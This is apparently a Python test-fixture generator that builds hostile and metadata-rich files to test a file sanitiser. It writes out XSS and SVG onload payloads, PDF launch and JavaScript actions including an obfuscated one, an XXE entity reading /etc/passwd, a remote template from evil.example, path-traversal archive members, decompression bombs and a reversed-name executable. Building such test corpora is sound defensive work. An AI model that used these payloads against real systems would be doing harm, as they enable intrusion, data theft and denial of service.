"""A corpus of hostile and talkative files, made by script: each says what must become of it."""

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

import docx
import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

CANARY: Final = "canary-of-the-author"
KEPT: Final = "what-is-said-stays"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@dataclass(frozen=True, slots=True)
class Specimen:
    """A file to hand in. `taken` is whether it may be kept; where it may, the canary must be gone from it."""

    name: str
    content: bytes
    taken: bool
    what: str
    words: bool = False
    """Whether the words that people read are in it and must still be."""


def corpus(chance: random.Random, wanted: int) -> list[Specimen]:
    """Make so many files: every kind at least once, then the same kinds with other contents, sizes and names."""
    made: list[Specimen] = []
    while len(made) < wanted:
        made += list(_one_of_each(chance, len(made)))
    return made[: max(wanted, len(list(_one_of_each(chance, 0))))]


def _one_of_each(chance: random.Random, number: int) -> Iterator[Specimen]:
    tag = f"{number}-{chance.randrange(10**6)}"
    yield from _pictures(tag, chance)
    yield from _pdfs(tag)
    yield from _documents(tag)
    yield from _books(tag)
    yield from _archives(tag, chance)
    yield from _liars(tag, chance)


def _pictures(tag: str, chance: random.Random) -> Iterator[Specimen]:
    for form, ending in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        content = photograph(form, (chance.randint(2, 40), chance.randint(2, 40)))
        yield Specimen(f"{tag}.{ending}", content, taken=True, what=f"{form} with author and place")
        behind = content + b"<script>alert(1)</script>" + CANARY.encode()
        yield Specimen(f"{tag}-more.{ending}", behind, taken=True, what=f"{form} with a page behind its end")
    yield Specimen(f"{tag}.gif", b"GIF89a" + CANARY.encode(), taken=False, what="GIF, which is not taken")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{CANARY}</svg>'.encode()
    yield Specimen(f"{tag}.svg", svg, taken=False, what="SVG with a script")
    yield Specimen(f"{tag}-svg.png", svg, taken=False, what="SVG under a picture's name")
    bomb = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(bomb, "PNG")
    yield Specimen(f"{tag}-bomb.png", bomb.getvalue(), taken=False, what="picture of 900 million points")


def photograph(form: str, size: tuple[int, int] = (8, 8)) -> bytes:
    """Make a picture that tells who took it, with which camera, where."""
    exif = Image.Exif()
    exif[0x013B] = exif[0x010E] = CANARY
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[29] = "N", (48.0, 12.0, 30.0), CANARY
    made = io.BytesIO()
    more = {"comment": CANARY.encode()} if form == "JPEG" else {}
    Image.new("RGB", size, "navy").save(made, form, exif=exif.tobytes(), **more)
    return made.getvalue()


def _pdfs(tag: str) -> Iterator[Specimen]:
    for what, change in TALKATIVE.items():
        yield Specimen(f"{tag}-{what}.pdf", pdf(change), taken=True, what=f"PDF with {what}", words=True)
    for what, change in ACTING.items():
        yield Specimen(f"{tag}-{what}.pdf", pdf(change), taken=False, what=f"PDF with {what}")
    yield Specimen(f"{tag}-revised.pdf", revised(), taken=True, what="PDF with an earlier revision in it", words=True)
    yield Specimen(f"{tag}-cut.pdf", pdf(_nothing)[:300], taken=False, what="half a PDF")
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(_nothing))) as opened:
        opened.save(locked, encryption=pikepdf.Encryption(owner="a", user="b"))
    yield Specimen(f"{tag}-locked.pdf", locked.getvalue(), taken=False, what="PDF with a password")
    yield Specimen(f"{tag}-page.pdf", b"<html>%PDF-1.7", taken=False, what="page that says it is a PDF")


def pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """Make a PDF of one page with words on it, and something more."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(300, 300))
        document.pages[0].contents_add(f"% {KEPT}\n".encode())
        change(document)
        document.save(made)
    return made.getvalue()


def revised() -> bytes:
    """Make a PDF whose first state stays in the file, as programs do that append what changed."""
    first = pdf(lambda document: document.docinfo.update({"/Author": CANARY}))
    length = len(first)
    start = int(first.rsplit(b"startxref", 1)[1].split()[0])
    with pikepdf.open(io.BytesIO(first)) as opened:
        free, root = len(opened.objects) + 1, opened.Root.objgen[0]
    body = f"{free} 0 obj\n<< /Note ({CANARY}) >>\nendobj\n".encode()
    table = f"xref\n{free} 1\n{length:010d} 00000 n \n".encode()
    trailer = f"trailer\n<< /Size {free + 1} /Root {root} 0 R /Prev {start} >>\n".encode()
    return first + body + table + trailer + f"startxref\n{length + len(body)}\n%%EOF\n".encode()


def _nothing(_document: pikepdf.Pdf) -> None:
    return


def _properties(document: pikepdf.Pdf) -> None:
    for name in ("Author", "Title", "Subject", "Creator", "Keywords", "Manager"):
        document.docinfo[f"/{name}"] = CANARY


def _xmp(document: pikepdf.Pdf) -> None:
    with document.open_metadata() as meta:
        meta["dc:creator"] = [CANARY]
        meta["xmp:CreatorTool"] = CANARY


def _note(document: pikepdf.Pdf) -> None:
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 9, 9], T=CANARY, M=CANARY, NM=CANARY, Contents="a remark"
    )
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _photo(document: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(document, photograph("JPEG"))
    image.stream_dict.update(
        {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 8, "/Height": 8, "/BitsPerComponent": 8}
    )
    image.ColorSpace, image.Filter = Name.DeviceRGB, Name.DCTDecode
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=document.make_indirect(image)))
    document.pages[0].contents_add(b"q 8 0 0 8 0 0 cm /Im0 Do Q\n")


def _pieces(document: pikepdf.Pdf) -> None:
    document.pages[0].PieceInfo = Dictionary(Program=Dictionary(Private=CANARY, LastModified=CANARY))


TALKATIVE: Final[dict[str, Callable[[pikepdf.Pdf], None]]] = {
    "properties": _properties,
    "xmp": _xmp,
    "a signed remark": _note,
    "a photograph": _photo,
    "private data of a program": _pieces,
}


def _deed(kind: str) -> Callable[[pikepdf.Pdf], None]:
    def act(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(
            Dictionary(S=Name(f"/{kind}"), F="calc.exe", JS="app.alert(1)")
        )

    return act


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ" + CANARY.encode()


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA="<xdp/>", Fields=Array())


def _hidden_deed(document: pikepdf.Pdf) -> None:
    """The name of the deed is written so that a search for bytes does not find it."""
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name("/Java#53cript".replace("#53", "S")), JS="app.alert(1)"))


ACTING: Final[dict[str, Callable[[pikepdf.Pdf], None]]] = {
    **{
        f"the deed {kind}": _deed(kind)
        for kind in ("JavaScript", "Launch", "SubmitForm", "ImportData", "GoToE", "GoToR")
    },
    "a file inside": _attached,
    "a form of its own": _form,
    "a deed at opening a page": _hidden_deed,
}


def _documents(tag: str) -> Iterator[Specimen]:
    yield Specimen(f"{tag}.docx", document(), taken=True, what="DOCX with author, comment, tracked changes", words=True)
    yield Specimen(f"{tag}.odt", odt(), taken=True, what="ODT with author, comment, tracked changes", words=True)
    for what, members in DANGEROUS.items():
        yield Specimen(f"{tag}-{what}.docx", packed(document(), members), taken=False, what=f"DOCX with {what}")
    yield Specimen(f"{tag}.docm", document(), taken=False, what="DOCM, which is not taken")


DANGEROUS: Final[dict[str, dict[str, bytes]]] = {
    "macros": {"word/vbaProject.bin": b"x"},
    "a control": {"word/activeX/activeX1.xml": b"<x/>"},
    "a program inside": {"word/embeddings/a.exe": b"MZ"},
    "an object inside": {"word/embeddings/oleObject1.bin": b"x"},
    "a template from elsewhere": {
        "word/_rels/settings.xml.rels": b"<Relationships "
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        b'TargetMode="External" '
        b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/>'
        b"</Relationships>"
    },
    "entities": {"word/more.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'},
    "a name that climbs": {"../../etc/cron.d/x": b"x"},
    "an absolute name": {"/etc/passwd": b"x"},
    "the same name twice": {"WORD/DOCUMENT.XML": b"<x/>"},
}


def document() -> bytes:
    """Make a DOCX that tells who wrote, commented and changed it."""
    made = docx.Document()
    for name in ("author", "last_modified_by", "comments", "keywords", "subject"):
        setattr(made.core_properties, name, CANARY)
    made.add_paragraph(KEPT)
    plain = io.BytesIO()
    made.save(plain)
    wrapped = (
        f'<w:p w:rsidR="00AB12CD"><w:del w:id="1" w:author="{CANARY}" w:date="2026-01-01T00:00:00Z">'
        f"<w:r><w:delText>{CANARY}</w:delText></w:r></w:del>"
        f'<w:ins w:id="2" w:author="{CANARY}"><w:r><w:t>{KEPT}</w:t></w:r></w:ins>'
        '<w:r><w:commentReference w:id="1"/></w:r></w:p><w:sectPr'
    )
    comments = f'<w:comments xmlns:w="x"><w:comment w:author="{CANARY}" w:id="1"/></w:comments>'.encode()
    body = zipfile.ZipFile(plain).read("word/document.xml").decode().replace("<w:sectPr", wrapped, 1)
    more = {"word/document.xml": body.encode(), "word/comments.xml": comments, "docProps/custom.xml": CANARY.encode()}
    return packed(plain.getvalue(), {**more, "word/media/photo.jpg": photograph("JPEG")})


def odt() -> bytes:
    """Make an ODT that tells the same."""
    spaces = "".join(
        f' xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for short, name in (("office", "office"), ("text", "text"), ("meta", "meta"))
    )
    content = (
        f"<office:document-content{spaces}><office:body><office:text><text:tracked-changes><text:changed-region>"
        f"{CANARY}</text:changed-region></text:tracked-changes><text:p>{KEPT}<office:annotation>{CANARY}"
        "</office:annotation></text:p></office:text></office:body></office:document-content>"
    )
    meta = f"<office:document-meta{spaces}><office:meta><meta:x>{CANARY}</meta:x></office:meta></office:document-meta>"
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr("meta.xml", meta)
        archive.writestr("Thumbnails/thumbnail.png", CANARY)
    return made.getvalue()


def _books(tag: str) -> Iterator[Specimen]:
    book = openpyxl.Workbook()
    book.properties.creator = book.properties.lastModifiedBy = CANARY
    sheet = book.worksheets[0]
    sheet["A1"] = KEPT
    made = io.BytesIO()
    book.save(made)
    more = {"xl/revisions/revisionLog1.xml": f"<x>{CANARY}</x>".encode(), "xl/persons/person.xml": CANARY.encode()}
    yield Specimen(f"{tag}.xlsx", packed(made.getvalue(), more), taken=True, what="XLSX with author", words=True)
    macros = packed(made.getvalue(), {"xl/vbaProject.bin": b"x"})
    yield Specimen(f"{tag}-macros.xlsx", macros, taken=False, what="XLSX with macros")
    yield Specimen(f"{tag}.docx", made.getvalue(), taken=False, what="XLSX under the name of a DOCX")


def _archives(tag: str, chance: random.Random) -> Iterator[Specimen]:
    bomb = packed(document(), {"word/media/bomb.bmp": bytes(60 * 1024 * 1024)})
    yield Specimen(f"{tag}-bomb.docx", bomb, taken=False, what="DOCX that unpacks to a thousand times its size")
    crowd = packed(document(), {f"word/media/{number}.txt": b"" for number in range(5_001)})
    yield Specimen(f"{tag}-crowd.docx", crowd, taken=False, what="DOCX of thousands of members")
    content = bytearray(document())
    for _time in range(40):
        content[chance.randrange(len(content) // 2, len(content))] ^= 0xFF
    yield Specimen(f"{tag}-noise.docx", bytes(content), taken=False, what="damaged DOCX")
    yield Specimen(f"{tag}.zip", document(), taken=False, what="ZIP, which is not taken")


def _liars(tag: str, chance: random.Random) -> Iterator[Specimen]:
    page = f"<!doctype html><script>{CANARY}</script>".encode()
    for ending in ("txt", "csv", "md", "ics", "pdf", "png", "jpg", "docx"):
        yield Specimen(f"{tag}-page.{ending}", page, taken=False, what=f"page under the name of a {ending}")
    late = b"a line\n" * 2_000 + page
    yield Specimen(f"{tag}-late.txt", late, taken=False, what="text that becomes a page after its beginning")
    yield Specimen(f"{tag}-wide.txt", page.decode().encode("utf-16"), taken=False, what="page in UTF-16 as a text")
    for start, name in ((b"MZ\x90\x00", "exe"), (b"\x7fELF", "elf"), (b"%PDF-1.7\n", "pdf"), (b"PK\x03\x04", "zip")):
        noise = start + chance.randbytes(200)
        yield Specimen(f"{tag}-{name}.txt", noise, taken=False, what=f"{name} under the name of a text")
        yield Specimen(f"{tag}-{name}.jpg", noise, taken=False, what=f"{name} under the name of a picture")
    both = photograph("JPEG") + document()
    yield Specimen(f"{tag}-both.docx", both, taken=False, what="picture that is a DOCX too")
    yield Specimen(f"{tag}-right\u202efdp.exe", b"MZ", taken=False, what="name that is written backwards")
    yield Specimen(f"{tag}.pdf.exe", pdf(_nothing), taken=False, what="PDF with a second ending")
    yield Specimen(f"{tag}.txt", f"{KEPT}\n".encode(), taken=True, what="plain text", words=True)


def packed(archive: bytes, members: dict[str, bytes]) -> bytes:
    """Give an archive with further, or other, members."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as before, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in members:
                after.writestr(name, before.read(name))
        for name, content in members.items():
            after.writestr(name, content)
    return made.getvalue()
